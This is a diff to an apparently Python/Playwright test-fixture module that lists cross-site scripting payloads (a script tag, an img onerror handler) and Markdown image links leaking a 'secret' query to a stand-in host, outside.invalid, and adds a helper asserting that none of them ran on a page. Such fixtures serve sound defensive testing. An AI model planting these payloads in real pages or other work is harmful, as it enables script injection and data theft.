@@ -1,5 +1,7 @@
 """Texts that would do something if a page let them: markup that runs, and Markdown that carries something away."""
 
+from playwright.sync_api import Page
+
 ATTACKS = (
     "<script>window.attacked = 1; alert(1)</script>",
     '<img src=x onerror="window.attacked = 1; alert(1)">',
@@ -50,3 +52,12 @@ LEAKS = (
     "[![x](http://outside.invalid/leak)](http://outside.invalid/leak)",
     "<http://outside.invalid/leak?q=secret> http://outside.invalid/leak?q=secret",
 )
+NAMES = tuple(ATTACKS[place] for place in (0, 1, 4, 19, 21))
+"""Those that can be the name of somebody or something: short, without ',' and ':'."""
+
+
+def unharmed(page: Page) -> None:
+    """Nothing ran: what a trap would have told fails the test when the page is left."""
+    page.wait_for_timeout(150)
+    assert page.evaluate("window.attacked") is None
+    assert page.locator("main img, main iframe, main object, main style, main form[action], nav img").count() == 0
